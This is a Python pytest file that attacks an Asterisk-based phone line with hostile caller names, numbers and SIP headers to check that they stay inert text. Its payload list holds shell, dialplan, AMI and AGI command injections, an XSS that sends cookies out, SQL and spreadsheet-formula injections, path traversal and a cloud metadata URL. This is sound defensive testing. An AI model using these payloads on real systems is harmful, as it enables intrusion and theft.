"""Whatever a caller's telephone sends as name, number and headers, it stays text."""

import asyncio
import csv
import hashlib
import json
import re
from collections.abc import AsyncIterator, Iterator, Mapping
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote_from_bytes, unquote

import pytest

from ari_app.sip_caller import CallPlan, ExpectBye, Press, Wait, place_call
from asterisk_conf import control, notes
from asterisk_conf.install import Installation
from tests.rig import ports
from tests.rig.own_line import OwnLine, RunningLine, running
from tests.rig.sip import Call, SipAgent

pytestmark = pytest.mark.asterisk

PHONE = "02287651234"
AT_ONCE = 20
SETTLE_SECONDS = 20.0
ANSWER_SECONDS = 3.0


def payloads(canary: Path) -> dict[str, str | bytes]:
    """Texts that something on the way might take for more than text. Each that could run a
    command would leave a file named like `canary`."""
    c = str(canary)
    return {
        "function": f"${{SHELL(touch {c}1)}}{PHONE}",
        "expression": f"$[7*7]$[${{SHELL(touch {c}2)}}]",
        "evaluated": f"${{EVAL($\\{{SHELL(touch {c}3)}})}}",
        "file function": f"${{FILE({c}4,,,,owned)}}",
        "shell": f"`touch {c}5`$(touch {c}6);touch {c}7|touch {c}8&&touch {c}9&",
        "arguments": f"x,1,System(touch {c}10)&PJSIP/8001@carrier;y",
        "agi command": f'200 result=1\nEXEC System "touch {c}11"\n{PHONE}',
        "ami action": (
            f"x\r\n\r\nAction: Originate\r\nChannel: Local/4001234567@huisheng-numbers\r\n"
            f"Application: System\r\nData: touch {c}12\r\n\r\n"
        ),
        "cli command": f"x\ncore stop now\n!touch {c}13",
        "conf section": f"x\n[general]\n#exec touch {c}14\n;--",
        "python": f"{{0.__class__}}%s%n%(x)s__import__('os').system('touch {c}15')",
        "template": f"{{{{7*7}}}}{{% include 'x' %}}{{{{ ''.__class__ }}}}{PHONE}",
        "script": f"</td><script>fetch('//x/'+document.cookie)</script>{PHONE}",
        "markup": '"><img src=x onerror=alert(1)><!--',
        "rich markup": "[bold red]x[/bold red][link=http://x]y[/link]",
        "statement": "'; DROP TABLE calls; UPDATE tickets SET status='closed'; --",
        "formula": "=cmd|' /C calc'!A1",
        "formula plus": "+1+cmd|' /C calc'!A1",
        "formula at": "@SUM(1+1)*cmd|' /C calc'!A1",
        "formula minus": "-2+3+cmd|' /C calc'!A1",
        "commas and quotes": 'a,"b",\'c\';"d""e',
        "backslashes": '\\\\\\"\\n\\r\\0\\x41',
        "line breaks": "a\r\nb\nc\rd\u2028e",
        "terminal": "\x1b[2J\x1b]0;owned\x07\x9b31m",
        "right to left": "\u202e\u2066abc\u200f",
        "nul": f"a\x00b{PHONE}",
        "no utf-8": b"\xff\xfe\xc0\x80\xed\xa0\x80\xf5" + PHONE.encode(),
        "path": "../../../../../../etc/passwd",
        "url": "http://169.254.169.254/latest/meta-data",
        "json": '{"__proto__":{"admin":true},"caller":null}',
        "numbers": "1e309 NaN -0 0x10 9" + "9" * 60,
        "spaces": " \t \u3000 ",
        "long": "x" * 10_000,
        "long number": "0228" * 2_500,
        "long wide": "电" * 3_300,
    }


def raw(text: str | bytes) -> bytes:
    return text if isinstance(text, bytes) else text.encode()


def quoted(text: str | bytes) -> bytes:
    """A SIP quoted-string (RFC 3261, 25.1); line breaks folded, as they must be."""
    inner = raw(text).replace(b"\\", b"\\\\").replace(b'"', b'\\"').replace(b"\x00", b"\\\x00")
    return b'"' + re.sub(rb"\r\n|\r|\n", b"\r\n ", inner) + b'"'


def as_name(text: str | bytes, address: str) -> bytes:
    return quoted(text) + b" <sip:" + PHONE.encode() + b"@" + address.encode() + b">"


def as_number(text: str | bytes, address: str) -> bytes:
    return f"<sip:{quote_from_bytes(raw(text), safe='')}@{address}>".encode()


def as_bare_number(text: str | bytes, address: str) -> bytes:
    """Not escaped at all: mostly no SIP, to be refused or dropped."""
    return b"<sip:" + raw(text) + b"@" + address.encode() + b">"


HEADERS = (
    "P-Asserted-Identity", "Remote-Party-ID", "Diversion", "Reason", "User-Agent", "Subject",
    "Call-Info", "Alert-Info", "Organization", "Privacy",
)  # fmt: skip


@dataclass
class World:
    """The line under attack, and what it looked like before."""

    line: OwnLine
    process: RunningLine
    canary: Path
    token: str
    prompts: Mapping[str, str]
    answered: int = 0
    texts: dict[str, str | bytes] = field(default_factory=dict)

    @property
    def server(self) -> tuple[str, int]:
        return "127.0.0.1", self.line.settings.pbx.sip.port

    def calls(self) -> list[dict[str, Any]]:
        return self.line.items("/api/v1/calls", self.token)


def digests(line: OwnLine) -> dict[str, str]:
    """Every file that a caller may hear."""
    return {
        str(path): hashlib.sha256(path.read_bytes()).hexdigest()
        for folder in ("prompts", "sounds")
        for path in (line.state / folder).rglob("*")
        if path.is_file()
    }


@pytest.fixture(scope="module")
def world(installation: Installation, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    """One line for all attacks: whatever one of them leaves behind, the next would meet."""
    folder = tmp_path_factory.mktemp("hostile")
    line = OwnLine.in_folder(folder)
    ports.keep()
    canary = folder / "canary"
    with running(line) as process:
        token = line.command("token", "create", "test", "--scope", "admin").stdout.strip()
        yield World(line, process, canary, token, digests(line), texts=payloads(canary))


@asynccontextmanager
async def telephone(world: World) -> AsyncIterator[SipAgent]:
    agent = await SipAgent.open("127.0.0.1", ports.free_port(), world.server)
    try:
        yield agent
    finally:
        agent.close()


async def answer(call: Call) -> int:
    """The final status; 0 for none: what is no SIP at all may be dropped."""
    try:
        return (await call.final(ANSWER_SECONDS)).status
    except TimeoutError:
        return 0


async def attack(world: World, agent: SipAgent, calls: list[Call]) -> list[int]:
    """All at once; those that are served stay until all are answered and the page is seen."""
    statuses = await asyncio.gather(*map(answer, calls))
    served = [call for call, status in zip(calls, statuses, strict=True) if status == 200]
    world.answered += len(served)
    check_page(world.line.get("/"))
    byes = await asyncio.gather(*(call.ask("BYE") for call in served))
    assert {bye.status for bye in byes} <= {200}
    return statuses


def check_page(html: str) -> None:
    assert not re.search(r"<script>|<img|onerror=alert\(1\)>|<!--", html)
    assert "49" not in re.findall(r"<td>(\d+)</td>", html), "a template or expression was computed"
    assert "\x1b" not in html


async def settled(world: World) -> list[dict[str, Any]]:
    """The calls, once Asterisk and the line have nothing left of them."""
    async with asyncio.timeout(SETTLE_SECONDS):
        while True:
            told = await control.command(
                world.line.paths.control_socket, "core show channels count"
            )
            calls = await asyncio.to_thread(world.calls)
            if told.startswith("0 active channels") and not any(call["live"] for call in calls):
                return calls
            await asyncio.sleep(0.1)


REFUSALS = {0, 400, 404, 413, 414, 416, 420, 484, 488, 513}


@pytest.mark.parametrize("write", [as_name, as_number, as_bare_number])
async def test_names_and_numbers_are_served_or_refused(world: World, write: Any) -> None:
    before = len(await settled(world))
    already = world.answered
    texts = list(world.texts.values())
    async with telephone(world) as agent:
        for start in range(0, len(texts), AT_ONCE):
            calls = [
                invite(agent, write(text, agent.address)) for text in texts[start : start + AT_ONCE]
            ]
            statuses = await attack(world, agent, calls)
            assert set(statuses) <= REFUSALS | {200}, statuses
            if write is as_name and start == 0:
                assert statuses.count(200) > AT_ONCE / 2, statuses
    calls_known = await settled(world)
    assert len(calls_known) - before == world.answered - already


def invite(agent: SipAgent, sender: bytes, *headers: bytes, user: bytes = b"4001234567") -> Call:
    """An INVITE whose From, headers and dialled number are these bytes."""

    def text(part: bytes) -> str:
        return part.decode("utf-8", "surrogateescape")

    return agent.invite(text(user), *map(text, headers), sender=text(sender))


async def test_headers_are_served_or_refused(world: World) -> None:
    """One header after another, each with another text; folded where a text has lines."""
    texts = list(world.texts.values())
    async with telephone(world) as agent:
        calls = [
            invite(
                agent,
                f"<sip:{PHONE}@{agent.address}>".encode(),
                header.encode() + b": " + re.sub(rb"\r\n|\r|\n|\x00", b"\r\n ", raw(text)),
            )
            for header, text in zip(HEADERS * 4, texts, strict=False)
        ]
        assert set(await attack(world, agent, calls)) <= REFUSALS | {200}
    await settled(world)


async def test_dialled_numbers_that_are_none_reach_nothing(world: World) -> None:
    before = len(await settled(world))
    async with telephone(world) as agent:
        sender = f"<sip:{PHONE}@{agent.address}>".encode()
        calls = [
            invite(agent, sender, user=quote_from_bytes(raw(text), safe="").encode())
            for text in world.texts.values()
        ]
        assert set(await attack(world, agent, calls)) <= REFUSALS
    assert len(await settled(world)) == before


async def test_hostile_callers_who_complain_get_tickets_like_any_other(world: World) -> None:
    """Real SIPp, through the whole menu; name and number are the text."""
    before = {call["id"] for call in await settled(world)}
    steps = (Wait(2.5), Press("1"), Wait(5), Press("#"), ExpectBye(30))
    plans = []
    for name in ("template", "script", "shell", "no utf-8", "formula"):
        text = world.texts[name]
        number = quote_from_bytes(raw(text), safe="").encode()
        plans.append(CallPlan(number, "4001234567", steps, display_name=quoted(text) + b" "))
    target = f"127.0.0.1:{world.line.settings.pbx.sip.port}"
    results = await asyncio.gather(*(place_call(plan, target) for plan in plans))
    assert [result.status for result in results] == [200] * len(plans)
    world.answered += len(plans)
    calls = [call for call in await settled(world) if call["id"] not in before]
    assert len(calls) == len(plans)
    for call in calls:
        ticket = json.loads(world.line.get(f"/api/v1/tickets/{call['ticket_number']}", world.token))
        assert ticket["type"] == "complaint"
        assert ticket["caller"]["caller_id"] == call["caller"]["caller_id"]
    check_page(world.line.get("/"))


async def test_the_texts_arrived_as_they_were_sent_and_cut(world: World) -> None:
    """Otherwise nothing above was tried at all: what is shown is the text itself."""
    shown = {call["caller"]["caller_id"] for call in await settled(world)}
    for name in ("function", "template", "script", "formula", "markup", "json"):
        text = str(world.texts[name])
        assert any(one and text.startswith(one.rstrip("\ufffd")) for one in shown), name
    assert max(map(len, shown)) <= 100
    for one in shown:
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", one), repr(one)


async def test_nothing_was_executed_and_nothing_that_callers_hear_was_changed(
    world: World,
) -> None:
    assert list(world.canary.parent.glob("canary*")) == []
    assert digests(world.line) == world.prompts
    assert world.process.process.poll() is None
    assert world.line.is_ready()


async def test_asterisks_own_files_hold_a_line_per_call_and_no_foreign_one(world: World) -> None:
    calls = await settled(world)
    written = world.line.paths.notes.read_text().splitlines()
    known = notes.read(world.line.paths.notes)
    received = [note for note in known if note.kind == "received"]
    assert len(written) == len(known)
    assert {call["id"] for call in calls} == {note.channel_id for note in received}
    assert max(len(note.caller_id) for note in received) <= 64
    for line in written:
        assert re.fullmatch(r"[\x20-\x7e]+", line)
        for cell in line.split(",")[5:]:
            assert cell[:1] not in ("=", "@", "+", '"', "\t"), "a formula in a spreadsheet"
            assert unquote(cell, errors="replace") is not None
    records = world.line.paths.call_records.read_text(errors="replace")
    rows = list(csv.reader(records.split("\n")[:-1]))
    assert len(rows) == len(received)
    assert {len(row) for row in rows} == {12}


async def test_the_log_holds_no_number_and_no_fault(world: World) -> None:
    log = world.process.log
    assert PHONE not in log
    for line in log.splitlines():
        if line.startswith("{"):
            told = json.loads(line)
            assert told["level"] in ("info", "warning"), told
            assert "exception" not in told


async def test_the_crm_got_every_call_as_text(world: World) -> None:
    calls = await settled(world)
    crm = f"http://127.0.0.1:{world.line.settings.bridge.demo_crm_port}"
    async with asyncio.timeout(SETTLE_SECONDS):
        while True:
            got = json.loads(await asyncio.to_thread(OwnLine.get_from, f"{crm}/received"))
            messages = got if isinstance(got, list) else got["messages"]
            ended = {m["data"]["call_id"] for m in messages if m["type"] == "call.ended"}
            if ended >= {call["id"] for call in calls}:
                break
            await asyncio.sleep(0.2)
    check_page(OwnLine.get_from(f"{crm}/"))
    shown = world.line.command("bridge", "status")
    assert (shown.returncode, shown.stderr) == (0, "")
    assert world.line.command("audit", "verify").returncode == 0
